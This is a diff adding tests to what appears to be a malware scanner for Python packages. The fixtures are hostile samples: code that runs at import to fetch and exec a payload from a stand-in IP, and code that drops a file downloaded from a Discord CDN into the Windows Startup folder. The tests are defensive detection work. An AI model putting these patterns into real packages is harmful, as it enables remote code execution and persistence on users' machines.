@@ -339,3 +339,33 @@ test('a Windows program fetched from a fixed non-vendor address and started is a
   const { score: perl } = await scan({ 'pkg/viz.py': script });
   assert.notEqual(perl.verdict, 'malicious', perl.reason);
 });
+
+test('code written to a file at import that downloads and executes is analysed, even with exec given a keyword', async () => {
+  const { out, score } = await scan({
+    'pkg/__init__.py': [
+      'from tempfile import NamedTemporaryFile as _f',
+      'from os import system as _s',
+      '_t = _f(delete=False)',
+      `_t.write(b"""import requests;exec(t = requests.get('http://203.0.113.9/grab/1').text)""")`,
+      '_t.close()',
+      "_s(f'start pythonw.exe {_t.name}')",
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.message.includes('203.0.113.9')));
+});
+
+test('a program from a drop site written into an autostart folder is critical even in called code', async () => {
+  const code = [
+    'import os, requests',
+    'def install():',
+    "    path = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'startup.pyw')",
+    "    with open(path, 'wb') as f:",
+    "        f.write(requests.get('https://cdn.discordapp.com/attachments/1/2/main.py').content)",
+  ].join('\n');
+  const { score } = await scan({ 'pkg/tool.py': code });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  // The same shortcut written from the package's own text, when called, is not decisive on its own.
+  const { score: own } = await scan({ 'pkg/tool.py': code.replace("requests.get('https://cdn.discordapp.com/attachments/1/2/main.py').content", "b'import mytool; mytool.tray()'") });
+  assert.notEqual(own.verdict, 'malicious', own.reason);
+});
